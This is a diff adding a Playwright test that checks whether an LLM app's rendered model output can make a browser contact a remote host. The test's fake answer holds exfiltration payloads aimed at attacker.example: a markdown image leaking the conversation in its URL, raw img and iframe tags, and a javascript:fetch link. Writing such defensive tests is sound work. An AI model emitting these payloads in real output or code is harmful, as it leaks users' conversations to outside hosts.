@@ -69,3 +69,60 @@ test('hostile model output renders inert in the live grid, the final answer, the
   expect(md).not.toMatch(/\]\(\s*(javascript|data|vbscript):/i);
   expect(md.match(/The end\./g)).toHaveLength(8); // every answer is there
 });
+
+/** Output that tries to make every reader's browser call home: remote images, frames, script links. */
+const EXFIL_ANSWER = [
+  'Summary: ![chart](https://attacker.example/leak.png?q=the-whole-conversation)',
+  '![ref image][pixel]',
+  '<img src="https://attacker.example/raw.png">',
+  '<iframe src="https://attacker.example/frame"></iframe>',
+  '[click me](javascript:fetch("https://attacker.example/js"))',
+  '[pixel]: https://attacker.example/ref.png',
+  'The end.',
+].join('\n\n');
+
+test('model output never makes the browser request a remote host, live or shared; the CSP holds and the app trips none of it', async ({ page, context }) => {
+  await control('reset', {});
+  await control('models', { 'fake-small': { text: EXFIL_ANSWER, tokensPerSecond: 400, chunkSize: 9 }, 'fake-large': { text: EXFIL_ANSWER, tokensPerSecond: 400, chunkSize: 9 } });
+  // Any request that reaches for the attacker's host is recorded (and answered, so nothing hangs).
+  const remote: string[] = [];
+  await context.route(/attacker\.example/, (route) => {
+    remote.push(route.request().url());
+    return route.fulfill({ status: 204 });
+  });
+  context.on('request', (request) => void (/attacker\.example/.test(request.url()) && remote.push(request.url())));
+  // CSP violations, reported by the page itself and in the console.
+  const violations: string[] = [];
+  await context.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (e) => {
+      (window as unknown as { __csp?: string[] }).__csp = [...((window as unknown as { __csp?: string[] }).__csp ?? []), `${e.violatedDirective} ${e.blockedURI}`];
+    });
+  });
+  const watch = (p: typeof page) => p.on('console', (m) => void (/Content Security Policy/i.test(m.text()) && violations.push(m.text())));
+  watch(page);
+
+  await page.goto('/');
+  const csp = (await page.request.get('/')).headers()['content-security-policy'];
+  expect(csp).toContain("img-src 'self' data: blob:");
+  await choosePreset(page, 'MoA-Lite (2 layers)');
+  await runPrompt(page, 'Describe the chart.');
+  await expectRunStatus(page, 'finished');
+  const final = page.getByTestId('final-text');
+  // The remote image is a link that says where it points, not an image.
+  await expect(final.getByTestId('image-link').first()).toContainText('chart (attacker.example)');
+  expect(await final.locator('img, iframe').count()).toBe(0);
+  await expect(cell(page, 1, 1).getByTestId('image-link').first()).toBeVisible();
+  // The metrics charts render under the policy too.
+  await page.getByTestId('run-metrics').scrollIntoViewIfNeeded();
+  await expect(page.locator('[data-testid=chart-timeline] svg').first()).toBeVisible();
+
+  const shared = await context.newPage();
+  watch(shared);
+  await shared.goto(await shareLinkOf(page));
+  await expectRunStatus(shared, 'finished');
+  await expect(shared.getByTestId('final-text').getByTestId('image-link').first()).toBeVisible();
+
+  expect(remote).toEqual([]);
+  for (const p of [page, shared]) expect(await p.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? [])).toEqual([]);
+  expect(violations).toEqual([]);
+});
